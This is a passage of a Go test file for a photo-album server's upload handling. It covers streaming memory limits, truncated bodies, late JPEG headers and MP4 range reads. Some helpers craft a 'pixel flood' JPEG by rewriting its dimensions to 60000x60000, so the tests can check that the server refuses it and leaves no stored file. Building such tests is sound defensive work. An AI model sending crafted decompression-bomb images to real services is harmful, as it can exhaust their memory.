		t.Fatalf("heap grew by %d MiB while streaming: the upload is being buffered", growth>>20)
	}
}

// mtZeroTail yields head, then zero bytes, left bytes in all.
type mtZeroTail struct {
	head []byte
	left int64
}

func (z *mtZeroTail) Read(p []byte) (int, error) {
	if z.left <= 0 {
		return 0, io.EOF
	}
	if int64(len(p)) > z.left {
		p = p[:z.left]
	}
	var n int
	if len(z.head) > 0 {
		n = copy(p, z.head)
		z.head = z.head[n:]
	} else {
		clear(p)
		n = len(p)
	}
	z.left -= int64(n)
	return n, nil
}

// BenchmarkStreamInto measures the ingest pipeline alone (no HTTP):
// SHA-256 + CRC-32 + AES-GCM + write + Commit (fsync) of 64 MiB.
func BenchmarkStreamInto(b *testing.B) {
	dir := b.TempDir()
	bs, err := blob.New(filepath.Join(dir, "blobs"), filepath.Join(dir, "tmp"))
	if err != nil {
		b.Fatal(err)
	}
	k, _ := keys.Generate()
	kek := blob.KEK{ID: blob.KeyID(k), Key: k}
	src := make([]byte, 64<<20)
	rand.Read(src)
	b.SetBytes(int64(len(src)))
	b.ResetTimer()
	for range b.N {
		w, err := bs.Create(kek)
		if err != nil {
			b.Fatal(err)
		}
		if _, _, _, err := streamInto(context.Background(), bytes.NewReader(src), w, math.MaxInt64); err != nil {
			b.Fatal(err)
		}
		ref, err := w.Commit()
		if err != nil {
			b.Fatal(err)
		}
		bs.Delete(ref.ID)
	}
}

func TestUploadTruncatedBodyKeepsNothing(t *testing.T) {
	e := newTestEnv(t, nil)
	o := e.createOwner("alice")
	album := e.mtAlbum(o, "Cut")
	j := mtJPEG(t, 200, 200, 61, "")
	body, ct := mtMultipart(t, mtFile{name: "cut.jpg", data: j})
	// Cut inside the file, before the closing boundary: a dropped
	// connection must not be stored as a shorter "photo".
	for _, cut := range []int{len(body) / 2, len(body) - 60} {
		hdr := o.bearer()
		hdr["Content-Type"] = ct
		resp, rb := e.do("POST", "/api/albums/"+album+"/media", body[:cut], hdr)
		if resp.StatusCode != 400 {
			t.Fatalf("cut at %d: %d %s", cut, resp.StatusCode, rb)
		}
		e.mtNothingKept(nil, 0)
	}
}

// mtPaddedJPEG puts pad bytes of APP15 segments between SOI and the rest of
// a JPEG, so its frame header (SOF) lies beyond the first MiB.
func mtPaddedJPEG(j []byte, pad int) []byte {
	out := append([]byte{}, j[:2]...)
	for pad > 0 {
		n := min(pad, 65533)
		seg := []byte{0xFF, 0xEF, 0, 0}
		binary.BigEndian.PutUint16(seg[2:], uint16(n+2))
		out = append(out, seg...)
		out = append(out, make([]byte, n)...)
		pad -= n
	}
	return append(out, j[2:]...)
}

// mtSetJPEGSize rewrites the dimensions in a JPEG's SOF0 header.
func mtSetJPEGSize(t *testing.T, j []byte, w, h uint16) []byte {
	t.Helper()
	out := append([]byte{}, j...)
	for i := 2; i+9 < len(out); {
		if out[i] != 0xFF {
			t.Fatal("lost marker sync")
		}
		marker, l := out[i+1], int(binary.BigEndian.Uint16(out[i+2:]))
		if marker == 0xC0 {
			binary.BigEndian.PutUint16(out[i+5:], h)
			binary.BigEndian.PutUint16(out[i+7:], w)
			return out
		}
		i += 2 + l
	}
	t.Fatal("no SOF0")
	return nil
}

func TestUploadHeaderBeyondFirstMiB(t *testing.T) {
	e := newTestEnv(t, nil)
	o := e.createOwner("alice")
	album := e.mtAlbum(o, "Late header")
	j := mtJPEG(t, 120, 80, 71, "")
	late := mtPaddedJPEG(j, 1200<<10)
	resp, body := e.mtUpload(o, album, mtFile{name: "late.jpg", data: late})
	if resp.StatusCode != 201 {
		t.Fatalf("late header: %d %s", resp.StatusCode, body)
	}
	if m := decode[mtItems](t, body).Items[0]; m.Width != 120 || m.Height != 80 || m.Size != int64(len(late)) {
		t.Fatalf("late header item %+v", m)
	}
	// The same with a pixel flood in the late header: refused after the
	// blob was written, and the blob is removed again.
	blobs := mtFiles(t, e.cfg.BlobRoot())
	flood := mtPaddedJPEG(mtSetJPEGSize(t, mtJPEG(t, 120, 80, 72, ""), 60000, 60000), 1200<<10)
	resp, body = e.mtUpload(o, album, mtFile{name: "flood.jpg", data: flood})
	if resp.StatusCode != 422 || !strings.Contains(string(body), "pixel_flood") {
		t.Fatalf("late flood: %d %s", resp.StatusCode, body)
	}
	e.mtNothingKept(blobs, 1)
	// In the first MiB the flood is refused before anything is written.
	resp, _ = e.mtUpload(o, album, mtFile{name: "flood2.jpg", data: mtSetJPEGSize(t, j, 60000, 60000)})
	if resp.StatusCode != 422 {
		t.Fatalf("early flood: %d", resp.StatusCode)
	}
	e.mtNothingKept(blobs, 1)
}

func TestUploadVideo(t *testing.T) {
	e := newTestEnv(t, nil)
	o := e.createOwner("alice")
	album := e.mtAlbum(o, "Film")
	mp4 := []byte("\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2\x00\x00\x00\x08free")
	mp4 = append(mp4, []byte("\x00\x00\x04\x08mdat")...)
	mp4 = append(mp4, bytes.Repeat([]byte{0x11, 0x22}, 512)...)
	resp, body := e.mtUpload(o, album, mtFile{name: "clip.mp4", data: mp4})
	if resp.StatusCode != 201 {
		t.Fatalf("video: %d %s", resp.StatusCode, body)
	}
	m := decode[mtItems](t, body).Items[0]
	if m.ContentType != "video/mp4" || m.Width != 0 {
		t.Fatalf("video item %+v", m)
	}
	resp, got := e.mtGet(o, "/api/media/"+m.ID+"/original", map[string]string{"Range": "bytes=0-23"})
	if resp.StatusCode != 206 || !bytes.Equal(got, mp4[:24]) || resp.Header.Get("Content-Type") != "video/mp4" {
		t.Fatalf("video range: %d %q", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
}
